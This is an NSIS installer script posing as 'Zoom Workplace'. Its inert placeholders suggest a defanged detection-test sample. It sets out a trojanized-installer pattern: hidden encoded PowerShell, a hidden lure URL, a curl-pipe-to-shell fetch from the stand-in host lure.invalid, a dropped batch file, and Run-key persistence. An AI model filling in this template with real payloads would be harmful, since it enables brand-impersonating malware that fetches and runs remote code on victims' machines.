Unicode UNI
Name "Zoom Workplace"
OutFile "NAME.exe"
InstallDir "$PROGRAMFILES\Inert"
SetCompressor MODE COMP
RequestExecutionLevel user
Page directory
Page instfiles
Section "main"
  SetOutPath "$INSTDIR"
  File readme.txt
  SetOutPath "$TEMP\sub"
  File big.bin
  Exec '"$INSTDIR\readme.txt" --run'
  ExecWait 'powershell.exe -w hidden -enc SQBuAGUAcgB0AA=='
  ExecShell "open" "https://lure.invalid/x" "args here" SW_HIDE
  nsExec::Exec 'cmd.exe /c curl https://lure.invalid/a | sh'
  FileOpen $0 "$TEMP\a.bat" w
  FileWrite $0 "start calc$\r$\n"
  FileClose $0
  CreateShortCut "$DESKTOP\Zoom.lnk" "$INSTDIR\x.exe" "-p q"
  WriteRegStr HKCU "Software\Microsoft\Windows\CurrentVersion\Run" "inert" "$INSTDIR\x.exe"
SectionEnd
